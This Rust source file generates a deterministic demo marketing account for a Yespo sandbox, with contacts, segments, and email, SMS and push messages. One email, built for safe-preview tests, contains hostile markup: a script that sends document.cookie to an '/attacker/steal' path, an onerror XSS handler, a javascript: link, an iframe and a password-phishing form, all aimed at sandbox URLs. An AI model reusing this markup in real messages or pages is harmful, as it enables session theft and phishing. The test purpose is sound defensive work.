//! The deterministic demo account: organisation, contacts, segments, messages, fields.
//!
//! Everything comes from one seed through [`SeededRng`], so a test can rely on "contact 3 of seed
//! 2026" being the same on every machine. Only the messages' image URLs differ between sandboxes:
//! they are absolute, at the sandbox's own base URL.

use super::model::*;
use super::prng::SeededRng;
use std::collections::BTreeSet;

pub const ORGANISATION: &str = "Demo Store (Yespo sandbox)";
pub const USER_EMAIL: &str = "demo@yespo-sandbox.local";
pub const ORG_ID: i64 = 90210;
/// First id of generated contacts; ids stay below 2^31 (the spec types `BaseContact.id` as int32).
pub const FIRST_CONTACT_ID: i64 = 100_000_001;
pub const FIRST_SEGMENT_ID: i64 = 200_001;
pub const FIRST_EMAIL_ID: i64 = 3_000_001;
pub const FIRST_SMS_ID: i64 = 4_000_001;
pub const FIRST_PUSH_ID: i64 = 5_000_001;

/// The mobile apps the demo account has registered for push (appId as Yespo issues them).
pub const APPS: [(&str, &str); 2] =
    [("83b77a49-fc28-409b-aeaa-68c9d544ab9d", "iOS"), ("5f0c2e3d-7a1b-4c8e-9d2f-3b6a1e0c4d7f", "Android")];

pub const FIELD_PROFESSION: i64 = 12345;
pub const FIELD_BIRTHDAY: i64 = 12346;
pub const FIELD_TIER: i64 = 12347;
pub const FIELD_POINTS: i64 = 12348;

pub fn custom_fields() -> Vec<CustomField> {
    vec![
        CustomField {
            id: FIELD_PROFESSION,
            name: "Profession",
            key: "PROFESSION",
            kind: "TEXTFIELD",
            allowed: &[],
            group: "Personal",
        },
        CustomField {
            id: FIELD_BIRTHDAY,
            name: "Birthday",
            key: "BIRTHDAY",
            kind: "DATE",
            allowed: &[],
            group: "Personal",
        },
        CustomField {
            id: FIELD_TIER,
            name: "Loyalty tier",
            key: "LOYALTY_TIER",
            kind: "COMBOBOX",
            allowed: &["Bronze", "Silver", "Gold", "Platinum"],
            group: "Loyalty",
        },
        CustomField {
            id: FIELD_POINTS,
            name: "Loyalty points",
            key: "LOYALTY_POINTS",
            kind: "NUMBER",
            allowed: &[],
            group: "Loyalty",
        },
    ]
}

pub fn subscription_categories() -> Vec<SubscriptionCategory> {
    vec![
        SubscriptionCategory { id: 1, key: "news", name: "News and updates", group_id: 300_001 },
        SubscriptionCategory { id: 2, key: "promo", name: "Promotions and sales", group_id: 300_002 },
        SubscriptionCategory { id: 3, key: "product", name: "New arrivals", group_id: 300_003 },
        SubscriptionCategory { id: 4, key: "events", name: "Events near you", group_id: 300_004 },
    ]
}

pub const EMAIL_SENDERS: [&str; 2] = ["news@demo-store.example", "hello@demo-store.example"];
pub const SMS_SENDERS: [&str; 2] = ["DemoStore", "DemoSale"];

const FIRST_NAMES: &[&str] = &[
    "Olena", "Andrii", "Iryna", "Taras", "Oksana", "Dmytro", "Sofia", "Maksym", "Anna", "Bohdan", "Kateryna", "Yurii",
    "Emma", "Liam", "Olivia", "Noah", "Mia", "Lucas", "Zofia", "Jan", "Marta", "Tomasz", "Ines", "Mateo", "Lena",
    "Felix", "Chloe", "Hugo", "Amara", "Kenji", "Aiko", "Ravi", "Priya", "Omar", "Leila",
];
const LAST_NAMES: &[&str] = &[
    "Shevchenko",
    "Kovalenko",
    "Bondarenko",
    "Tkachenko",
    "Kravchenko",
    "Melnyk",
    "Boyko",
    "Smith",
    "Johnson",
    "Brown",
    "Garcia",
    "Muller",
    "Schmidt",
    "Nowak",
    "Kowalski",
    "Dubois",
    "Rossi",
    "Silva",
    "Tanaka",
    "Sato",
    "Patel",
    "Haddad",
    "Novak",
    "Horvat",
    "Jensen",
    "Larsen",
    "Moreau",
    "Fischer",
    "Wagner",
];
const DOMAINS: &[&str] =
    &["gmail.com", "outlook.com", "ukr.net", "yahoo.com", "proton.me", "icloud.com", "example.org"];
const PROFESSIONS: &[&str] =
    &["writer", "engineer", "designer", "teacher", "doctor", "student", "manager", "chef", "nurse", "artist"];
const LANGUAGES: &[(&str, &str, &str)] = &[
    ("uk", "Europe/Kyiv", "uk_UA"),
    ("en", "Europe/London", "en_GB"),
    ("en", "America/New_York", "en_US"),
    ("pl", "Europe/Warsaw", "pl_PL"),
    ("de", "Europe/Berlin", "de_DE"),
    ("es", "Europe/Madrid", "es_ES"),
];
const TOWNS: &[(&str, &str, &str)] = &[
    ("Kyiv", "Kyiv", "01001"),
    ("Lviv", "Lviv Oblast", "79000"),
    ("Odesa", "Odesa Oblast", "65000"),
    ("Warsaw", "Masovia", "00-001"),
    ("Berlin", "Berlin", "10115"),
    ("London", "England", "SW1A 1AA"),
    ("Toulouse", "Occitanie", "31000"),
];
const IOS_MODELS: &[&str] = &["iPhone 13", "iPhone 14 Pro", "iPhone 15", "iPhone 16 Pro", "iPad Air"];
const ANDROID_MODELS: &[&str] = &["Pixel 8", "Galaxy S23", "Galaxy A54", "Redmi Note 12", "OnePlus 11"];
const APP_VERSIONS: &[&str] = &["4.1.6", "4.1.7", "4.2.0", "4.2.1", "5.0.0"];

/// Generate `count` contacts with ids from [`FIRST_CONTACT_ID`].
pub fn contacts(seed: u64, count: usize) -> Vec<Contact> {
    let mut rng = SeededRng::new(seed);
    let mut out = Vec::with_capacity(count);
    for i in 0..count {
        let id = FIRST_CONTACT_ID + i as i64;
        let mut c = Contact::new(id);
        let first = *rng.pick(FIRST_NAMES);
        let last = *rng.pick(LAST_NAMES);
        c.first_name = Some(first.to_string());
        c.last_name = Some(last.to_string());
        if rng.chance(0.95) {
            let email = format!("{}.{}{}@{}", first.to_lowercase(), last.to_lowercase(), i + 1, rng.pick(DOMAINS));
            c.channels.push(Channel { kind: "email".into(), value: email, device: None });
        }
        if rng.chance(0.7) || c.channels.is_empty() {
            let phone = format!("380{}{:07}", rng.pick(&["50", "63", "67", "93", "97"]), rng.below(10_000_000));
            c.channels.push(Channel { kind: "sms".into(), value: phone, device: None });
        }
        let (lang, tz, locale) = *rng.pick(LANGUAGES);
        if rng.chance(0.4) {
            let devices = if rng.chance(0.15) { 2 } else { 1 };
            for _ in 0..devices {
                let (app_id, os) = *rng.pick(&APPS);
                let model = if os == "iOS" { rng.pick(IOS_MODELS) } else { rng.pick(ANDROID_MODELS) };
                let token = if os == "iOS" { rng.hex(32) } else { format!("{}:APA91b{}", rng.hex(11), rng.hex(60)) };
                c.channels.push(Channel {
                    kind: "mobilepush".into(),
                    value: token,
                    device: Some(Device {
                        app_id: Some(app_id.to_string()),
                        device_model: Some(model.to_string()),
                        os: Some(os.to_string()),
                        locale: Some(locale.to_string()),
                        client_version: Some("esputnik-1".into()),
                        app_version: Some(rng.pick(APP_VERSIONS).to_string()),
                        active: Some(rng.chance(0.9)),
                    }),
                });
            }
        }
        c.language_code = Some(lang.to_string());
        c.time_zone = Some(tz.to_string());
        if rng.chance(0.8) {
            c.external_customer_id = Some(format!("cus-{:06}", i + 1));
        }
        if rng.chance(0.5) {
            let (town, region, postcode) = *rng.pick(TOWNS);
            c.address = Some(Address {
                region: Some(region.into()),
                town: Some(town.into()),
                address: Some(format!("{} Market St, {}", 1 + rng.below(200), town)),
                postcode: Some(postcode.into()),
            });
        }
        if rng.chance(0.6) {
            c.fields.push((FIELD_PROFESSION, rng.pick(PROFESSIONS).to_string()));
        }
        if rng.chance(0.5) {
            let date = format!("{}-{:02}-{:02}", 1950 + rng.below(55), 1 + rng.below(12), 1 + rng.below(28));
            c.fields.push((FIELD_BIRTHDAY, date));
        }
        if rng.chance(0.45) {
            c.fields.push((FIELD_TIER, rng.pick(&["Bronze", "Silver", "Gold", "Platinum"]).to_string()));
            c.fields.push((FIELD_POINTS, (rng.below(50) * 100).to_string()));
        }
        for key in ["news", "promo", "product", "events"] {
            if rng.chance(0.45) {
                c.subscriptions.push(key.to_string());
            }
        }
        out.push(c);
    }
    out
}

/// Twelve segments of all three kinds; static ones get members picked from `contact_count`.
pub fn segments(seed: u64, contact_count: usize) -> Vec<Segment> {
    let mut rng = SeededRng::new(seed ^ 0x5E6);
    let mut pick_members = |share: f64| -> BTreeSet<i64> {
        (0..contact_count).filter(|_| rng.chance(share)).map(|i| FIRST_CONTACT_ID + i as i64).collect()
    };
    let id = |n: i64| FIRST_SEGMENT_ID + n;
    vec![
        Segment { id: id(0), name: "VIP customers".into(), rule: SegmentRule::Static(pick_members(0.03)) },
        Segment { id: id(1), name: "Newsletter subscribers".into(), rule: SegmentRule::Static(pick_members(0.35)) },
        Segment { id: id(2), name: "Beta testers".into(), rule: SegmentRule::Static(pick_members(0.01)) },
        Segment { id: id(3), name: "Imported from CRM 2026-10".into(), rule: SegmentRule::Static(pick_members(0.12)) },
        Segment { id: id(4), name: "Black Friday 2026 buyers".into(), rule: SegmentRule::Static(pick_members(0.08)) },
        Segment {
            id: id(5),
            name: "Mobile app users".into(),
            rule: SegmentRule::Dynamic(Condition::HasChannel("mobilepush")),
        },
        Segment { id: id(6), name: "iOS app users".into(), rule: SegmentRule::Dynamic(Condition::DeviceOs("iOS")) },
        Segment { id: id(7), name: "Ukrainian speakers".into(), rule: SegmentRule::Dynamic(Condition::Language("uk")) },
        Segment {
            id: id(8),
            name: "Promo subscribers".into(),
            rule: SegmentRule::Dynamic(Condition::Subscribed("promo")),
        },
        Segment {
            id: id(9),
            name: "Gold tier".into(),
            rule: SegmentRule::Dynamic(Condition::FieldEquals(FIELD_TIER, "Gold")),
        },
        Segment {
            id: id(10),
            name: "VIP with the app".into(),
            rule: SegmentRule::Combined { of: vec![id(0), id(5)], all: true },
        },
        Segment {
            id: id(11),
            name: "Reachable by push or promo email".into(),
            rule: SegmentRule::Combined { of: vec![id(5), id(8)], all: false },
        },
    ]
}

const CAMPAIGNS: &[(&str, &str, &[&str])] = &[
    ("Welcome series #1", "Welcome to Demo Store, {name}!", &["welcome", "trigger"]),
    ("Welcome series #2", "Here is 10% off your first order", &["welcome", "trigger", "promo"]),
    ("Abandoned cart", "You left something in your cart", &["cart", "trigger"]),
    ("Black Friday teaser", "Black Friday starts in 3 days", &["promo", "black-friday"]),
    ("Black Friday main", "Up to 70% off — today only", &["promo", "black-friday"]),
    ("Cyber Monday", "Last chance: Cyber Monday deals", &["promo"]),
    ("Monthly digest — October", "What's new in October", &["digest", "news"]),
    ("Monthly digest — November", "What's new in November", &["digest", "news"]),
    ("New arrivals: winter", "Winter collection is here", &["product"]),
    ("Birthday greeting", "Happy birthday! A gift inside", &["trigger", "birthday"]),
    ("Order confirmation", "Your order is confirmed", &["transactional"]),
    ("Shipping update", "Your parcel is on its way", &["transactional"]),
    ("Re-engagement", "We miss you — come back for 15% off", &["reactivation", "promo"]),
    ("Loyalty: Gold tier", "You reached Gold!", &["loyalty"]),
    ("Event invitation", "Join our Kyiv pop-up store", &["events"]),
    ("Survey", "Two minutes to tell us what you think", &["feedback"]),
    ("Price drop alert", "An item on your wishlist is cheaper", &["trigger", "product"]),
    ("Back in stock", "It's back! Get it before it's gone", &["trigger", "product"]),
    ("Holiday gift guide", "Gifts for everyone on your list", &["promo", "holiday"]),
    ("App launch", "Our new app is out", &["news", "mobile"]),
];

/// The email with hostile markup, for the safe-preview tests: it must never run in the app.
pub const HOSTILE_EMAIL_NAME: &str = "Security test: script and onerror";

/// About forty email messages with realistic HTML. Their images are the sandbox's own
/// (`{base_url}/img/...`, absolute, as a real email's remote images are), so the request log
/// shows whether a preview fetched them.
pub fn emails(base_url: &str) -> Vec<EmailMessage> {
    let mut out = Vec::new();
    let mut id = FIRST_EMAIL_ID;
    for round in 0..2 {
        for (i, (name, subject, tags)) in CAMPAIGNS.iter().enumerate() {
            let name = if round == 0 { name.to_string() } else { format!("{name} (A/B variant)") };
            let subject = subject.replace("{name}", "%FIRSTNAME|friend%");
            let mut translations = Vec::new();
            if i % 4 == 0 {
                translations.push((
                    "uk".to_string(),
                    format!("[UA] {subject}"),
                    email_html(&subject, i, "uk", base_url),
                ));
            }
            out.push(EmailMessage {
                id,
                name,
                from: format!("\"Demo Store\" <{}>", EMAIL_SENDERS[i % 2]),
                subject: subject.clone(),
                html: email_html(&subject, i, "en", base_url),
                raw_html: None,
                amp_html: None,
                css: Some("body{margin:0;background:#f4f5f7}".into()),
                tags: tags.iter().map(|t| t.to_string()).collect(),
                language: "en".into(),
                translations,
                subscription_keys: if tags.contains(&"promo") { vec!["promo".into()] } else { vec!["news".into()] },
            });
            id += 1;
        }
    }
    out.push(EmailMessage {
        id,
        name: HOSTILE_EMAIL_NAME.into(),
        from: "\"Demo Store\" <news@demo-store.example>".into(),
        subject: "This message tries to run code".into(),
        // Every URL in it is on the sandbox (`/attacker/...` answers 404), so whatever a preview
        // lets through, a script's fetch, the frame, a remote image, shows in the request log.
        html: format!(
            concat!(
                "<!DOCTYPE html><html><head><title>Hostile</title>",
                "<script>window.__pwned = true; fetch('{base}/attacker/steal?c=' + document.cookie);</script>",
                "</head><body><h1>Looks harmless</h1>",
                "<img src=\"{base}/img/logo.png\" width=\"140\" height=\"40\" alt=\"Demo Store\">",
                "<img src=\"{base}/img/missing.png\" onerror=\"window.__pwned = true; alert('xss')\" alt=\"logo\">",
                "<a href=\"javascript:window.__pwned=true\">Click me</a>",
                "<iframe src=\"{base}/attacker/frame\"></iframe>",
                "<form action=\"{base}/attacker/phish\"><input name=\"password\"></form>",
                "<p style=\"background:url({base}/img/pixel.gif)\">Tracked paragraph</p>",
                "</body></html>"
            ),
            base = base_url
        ),
        raw_html: None,
        amp_html: None,
        css: None,
        tags: vec!["security".into()],
        language: "en".into(),
        translations: Vec::new(),
        subscription_keys: Vec::new(),
    });
    out
}

fn email_html(subject: &str, variant: usize, lang: &str, base: &str) -> String {
    let colours = ["#0b5fff", "#e4572e", "#17a398", "#6c4ab6", "#f0a202"];
    let colour = colours[variant % colours.len()];
    let cta = if lang == "uk" { "Перейти до магазину" } else { "Shop now" };
    format!(
        r#"<!DOCTYPE html>
<html lang="{lang}"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width">
<title>{subject}</title></head>
<body style="margin:0;padding:0;background:#f4f5f7;font-family:Arial,Helvetica,sans-serif">
<table role="presentation" width="100%" cellpadding="0" cellspacing="0"><tr><td align="center">
<table role="presentation" width="600" cellpadding="0" cellspacing="0" style="background:#ffffff">
<tr><td style="padding:24px;text-align:center;background:{colour}">
<img src="{base}/img/logo.png" width="140" height="40" alt="Demo Store"></td></tr>
<tr><td style="padding:32px 24px"><h1 style="margin:0 0 16px;font-size:24px;color:#1d2330">{subject}</h1>
<p style="font-size:16px;line-height:24px;color:#3c4257">Hi %FIRSTNAME|there%, we picked a few things we think you will like.</p>
<img src="{base}/img/banner.gif" width="552" alt="Campaign banner" style="display:block;width:100%;height:auto">
<p style="text-align:center;margin:32px 0"><a href="https://demo-store.example/collection/{variant}?utm_source=yespo&amp;utm_medium=email" style="background:{colour};color:#ffffff;padding:14px 28px;border-radius:4px;text-decoration:none;font-weight:bold">{cta}</a></p>
</td></tr>
<tr><td style="padding:16px 24px;font-size:12px;color:#8792a2;text-align:center">
Demo Store, 1 Market St, Kyiv. <a href="%UNSUBSCRIBELINK%" style="color:#8792a2">Unsubscribe</a></td></tr>
</table></td></tr></table>
<img src="{base}/img/pixel.gif" width="1" height="1" alt="" style="display:block"></body></html>"#
    )
}

/// Ten SMS messages.
pub fn sms() -> Vec<SmsMessage> {
    let texts: [(&str, &str, &[&str]); 10] = [
        (
            "Order shipped",
            "Your order %ORDER% is on its way. Track: https://demo-store.example/t/%ORDER%",
            &["transactional"],
        ),
        ("Delivery today", "Your parcel arrives today between 14:00 and 18:00.", &["transactional"]),
        ("Black Friday SMS", "Black Friday: up to 70% off today only! https://demo-store.example/bf", &["promo"]),
        ("Verification code", "Your Demo Store code is %CODE%. It expires in 10 minutes.", &["otp"]),
        ("Birthday SMS", "Happy birthday, %FIRSTNAME%! Here is 20% off: BDAY20", &["birthday", "trigger"]),
        (
            "Cart reminder SMS",
            "Still thinking? Your cart is waiting: https://demo-store.example/cart",
            &["cart", "trigger"],
        ),
        ("Pop-up store", "Join us at the Kyiv pop-up on Saturday from 10:00.", &["events"]),
        ("Loyalty points", "You have %POINTS% points. Spend them before the end of the month!", &["loyalty"]),
        ("Back in stock SMS", "It's back in stock! https://demo-store.example/p/%SKU%", &["product"]),
        ("Re-engagement SMS", "We miss you! 15% off with code COMEBACK15", &["reactivation", "promo"]),
    ];
    texts
        .iter()
        .enumerate()
        .map(|(i, (name, text, tags))| SmsMessage {
            id: FIRST_SMS_ID + i as i64,
            name: name.to_string(),
            from: SMS_SENDERS[i % 2].to_string(),
            text: text.to_string(),
            tags: tags.iter().map(|t| t.to_string()).collect(),
            language: "en".into(),
            track_urls: text.contains("https://"),
        })
        .collect()
}

/// Six mobile push messages: with an image, a carousel, web and deep links, buttons, two
/// languages, emoji, and one without tags. Images are the sandbox's own, like the emails'.
pub fn mobile_pushes(base_url: &str) -> Vec<MobilePushMessage> {
    let img = |name: &str| format!("{base_url}/img/{name}");
    let text = |s: &str| s.to_string();
    let tags = |list: &[&str]| list.iter().map(|t| t.to_string()).collect::<Vec<_>>();
    let messages = vec![
        MobilePushMessage {
            name: text("Flash sale push"),
            tags: tags(&["promo", "sale"]),
            subscription_keys: vec![text("promo")],
            content: PushContent {
                title: text("⚡ Flash sale: 50% off"),
                text: text("Only until midnight, %FIRSTNAME|friend%! Tap to see the deals."),
                link: Some(text("https://demo-store.example/sale?utm_source=yespo&utm_medium=push")),
                image_source: Some(img("promo.png")),
                buttons: vec![
                    PushButton {
                        action_id: text("shop_now"),
                        label: text("Shop now"),
                        link: Some(text("https://demo-store.example/sale")),
                        custom_data: None,
                    },
                    PushButton {
                        action_id: text("remind_later"),
                        label: text("Remind me later"),
                        link: None,
                        custom_data: Some(text(r#"{"remindInMinutes":60}"#)),
                    },
                ],
                sound_enabled: true,
                ttl_sec: Some(6 * 3600),
                ..PushContent::default()
            },
            ..MobilePushMessage::default()
        },
        MobilePushMessage {
            name: text("Order shipped push"),
            tags: tags(&["transactional"]),
            content: PushContent {
                title: text("Your order is on its way"),
                subtitle: Some(text("Order %ORDER%")),
                text: text("Tap to track your parcel."),
                link: Some(text("demostore://orders/%ORDER%/tracking")),
                ttl_sec: Some(24 * 3600),
                ..PushContent::default()
            },
            ..MobilePushMessage::default()
        },
        MobilePushMessage {
            name: text("Welcome push"),
            tags: tags(&["welcome", "trigger"]),
            subscription_keys: vec![text("news")],
            content: PushContent {
                title: text("Welcome to Demo Store!"),
                text: text("Thanks for installing the app. Here is 10% off your first order: WELCOME10"),
                link: Some(text("demostore://home")),
                sound_enabled: true,
                ..PushContent::default()
            },
            translations: vec![(
                text("uk"),
                PushContent {
                    title: text("Ласкаво просимо до Demo Store!"),
                    text: text("Дякуємо, що встановили застосунок. Ось 10% знижки на перше замовлення: WELCOME10"),
                    link: Some(text("demostore://home?lang=uk")),
                    sound_enabled: true,
                    ..PushContent::default()
                },
            )],
            ..MobilePushMessage::default()
        },
        MobilePushMessage {
            name: text("Back in stock push"),
            tags: tags(&["product", "trigger"]),
            subscription_keys: vec![text("product")],
            content: PushContent {
                title: text("It's back! 🎉"),
                text: text("Your favourite sneakers 👟 are in stock again. Grab them before they're gone 🔥"),
                link: Some(text("demostore://product/%SKU%")),
                badge_count: Some(1),
                sound_enabled: true,
                ..PushContent::default()
            },
            ..MobilePushMessage::default()
        },
        MobilePushMessage {
            name: text("Weekend picks carousel"),
            tags: tags(&["digest", "promo"]),
            subscription_keys: vec![text("promo")],
            content: PushContent {
                title: text("Weekend picks"),
                text: text("Swipe through this weekend's favourites."),
                link: Some(text("https://demo-store.example/weekend")),
                images: vec![img("promo.png"), img("banner.gif")],
                ..PushContent::default()
            },
            ..MobilePushMessage::default()
        },
        MobilePushMessage {
            name: text("App update available"),
            content: PushContent {
                title: text("A new version of the app"),
                text: text("Update to get faster checkout and order tracking."),
                custom_data: Some(text(r#"{"minVersion":"5.0.0","store":"auto"}"#)),
                ..PushContent::default()
            },
            ..MobilePushMessage::default()
        },
    ];
    messages
        .into_iter()
        .enumerate()
        .map(|(i, m)| MobilePushMessage { id: FIRST_PUSH_ID + i as i64, language: text("en"), ..m })
        .collect()
}
